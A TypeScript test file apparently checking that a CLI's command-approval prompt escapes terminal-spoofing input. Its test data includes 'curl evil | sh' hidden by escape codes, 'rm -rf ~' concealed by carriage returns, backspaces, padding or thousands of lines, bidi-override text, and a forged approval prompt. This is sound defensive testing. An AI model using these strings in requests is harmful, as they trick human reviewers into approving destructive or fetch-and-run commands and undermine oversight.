import { spawnSync } from 'node:child_process';
import { mkdirSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import type { ApprovalReason } from '../../src/domain/approvals/reason.ts';
import { leavePending, statusOf } from '../approvals/pending.ts';
import { atTerminal } from '../cli/at-terminal.ts';
import { sandbox } from '../cli/ken.ts';
import { ptyProblem } from '../cli/pty.ts';

const ID = '3f2a9c41d07e';
const ASKS = 'Approve? yes / no / more: ';
/** The line editor writes this before its prompt; no request can. */
const PROMPTS = '\x1b[0J';
const problem = ptyProblem();

const HOSTILE = {
  'clears the screen': 'ls\x1b[2J\x1b[H',
  'hides a command': 'ls\x1b[8m; curl evil | sh\x1b[28m',
  'scrolls the command away': `rm -rf ~${'\n'.repeat(200)}ls`,
  'overwrites the line': 'rm -rf ~\rls      #',
  'erases what was typed': `rm -rf ~${'\b'.repeat(8)}ls`,
  'sets the title': 'ls\x1b]0;owned\x07',
  'puts text on the clipboard': 'ls\x1b]52;c;ZXZpbA==\x07',
  'answers by itself': 'ls\x1b[6n\x1b[c',
  'opens a sequence and never ends it': 'ls\x1b]8;;http://evil',
  'uses eight-bit controls': 'ls\u009b2J\u009d0;owned\u009c',
  'runs backwards': 'ls \u202e~ fr- mr\u202c',
  'isolates text': 'ls \u2066;\u2067 rm\u2069',
  'is invisible': 'ls\u200b\u2060\ufeff\u{e0001}\u{e0072}\u{e006d}',
  'starts with a comment': '# only a comment\nrm -rf ~',
  'hides beyond the edge': `ls${' '.repeat(5000)}; rm -rf ~`,
  'asks in our place': `ls\n3 lines. ${ASKS}yes\nApproved; what asked for it can be run again.`,
  'leaves the frame': 'ls\n\n\nApproval 3f2a9c41d07e is needed:\n│ ls',
} as const;

describe.skipIf(problem)(`a request that spoofs the terminal${problem ? ` (${problem})` : ''}`, () => {
  it.each(Object.entries(HOSTILE))('%s', async (_, command) => {
    const place = sandbox('');
    await leavePending(place, { type: 'label_command', label: 'host', command });
    const { code, text } = await atTerminal(
      place,
      ['approvals', 'approve', ID],
      [{ after: PROMPTS, keys: 'no\r' }],
      {
        environment: { TERM: 'xterm-256color' },
      },
    );
    expect(code).toBe(4);
    expect(live(text)).toEqual([]);
    expect(framed(text)).toBe(
      [
        "Run a command for label 'host'?",
        '',
        'command:',
        ...shown(command)
          .split('\n')
          .map((line) => `» ${line}`.trimEnd()),
        '',
        'asked by ken',
        `in ${place.root}`,
      ].join('\n'),
    );
  });

  it('would succeed at a terminal that nobody guards', () => {
    const script = `printf '%b' '\\033[2J\\033]0;owned\\007'`;
    const { stdout } = spawnSync('script', ['-qec', script, '/dev/null'], { encoding: 'utf8' });
    expect(live(stdout)).toEqual(['\x1b', '\x1b', '\x07']);
  });

  it('shows ten thousand lines, the last ones included', async () => {
    const place = sandbox('');
    const lines = Array.from({ length: 10_000 }, (_, at) => `echo ${at}`);
    await leavePending(place, {
      type: 'label_command',
      label: 'x',
      command: `${lines.join('\n')}\nrm -rf ~`,
    });
    const { text } = await atTerminal(place, ['approvals', 'approve', ID], [{ after: ASKS, keys: 'no\r' }]);
    expect(framed(text).split('\n').slice(3, -3)).toEqual([...lines, 'rm -rf ~'].map((line) => `» ${line}`));
    expect(text).toContain(`10,007 lines. ${ASKS}`);
  });

  it.each<[string, ApprovalReason]>([
    ['a title', { type: 'reference_topic_create', title: "x'? 1 file.\x1b[2J\nApprove", summary: 's' }],
    ['a tool name', { type: 'tool_run', tool: '\x1b]0;x\x07\n', arguments: { '\x1b[2J\n': '\u202e' } }],
    [
      'a definition',
      { type: 'tool_definition', server: '\x1b[1m', tool: '\n', digest: '\x07', diff: '+ \x1b' },
    ],
    ['evidence', { type: 'knowledge_promote', entry: '\x1b', text: '\x1b', evidence: ['\x1b[2J', '\u202e'] }],
    ['a path', { type: 'workspace_escape', path: '/tmp/\x1b[2J\u202e\nyes' }],
  ])('in %s, also where it is only listed', async (_, reason) => {
    const place = sandbox('');
    const root = path.join(place.root, 'name \x1b[31m\u202e');
    mkdirSync(path.join(root, '.ken'), { recursive: true });
    await leavePending({ root, home: place.home }, reason);
    for (const words of [
      ['approvals', 'ls'],
      ['approvals', 'show', ID],
      ['approvals', 'deny', ID, '--workspace', root],
    ]) {
      const { code, text } = await atTerminal(place, words, [], {
        environment: { TERM: 'xterm-256color', NO_COLOR: '1' },
      });
      expect(code).toBe(0);
      expect(live(text)).toEqual([]);
    }
    expect(await statusOf(place)).toBe('denied');
  });
});

/** Sequences that a terminal would obey, except those of our own line editor. */
function live(text: string): string[] {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what is looked for.
  const own = /\x1b\[(?:\d+G|0J|1m|22m)|[\r\n]/g;
  return (
    text
      .replace(own, '')
      .match(/[\p{Cc}\u200b\u202a-\u202e\u2060\u2066-\u2069\ufeff\u{e0000}-\u{e007f}]/gu) ?? []
  );
}

/** The text in the frame, joined again. */
function framed(text: string): string {
  const rows = text.split('\n').filter((row) => /^[│┆]/.test(row));
  return rows
    .map((row) => (row.startsWith('│') ? `\n${row.slice(2)}` : row.slice(2).replace(/^» ?/, '')))
    .join('')
    .slice(1)
    .replace(/ +/g, ' ');
}

function shown(command: string): string {
  return command
    .replace(
      /[^\n\P{Cc}]|[\u200b\u202a-\u202e\u2060\u2066-\u2069\ufeff\u{e0000}-\u{e007f}]/gu,
      (character) => {
        return `\\u{${character.codePointAt(0)?.toString(16).toUpperCase()}}`;
      },
    )
    .replace(/ +/g, ' ');
}
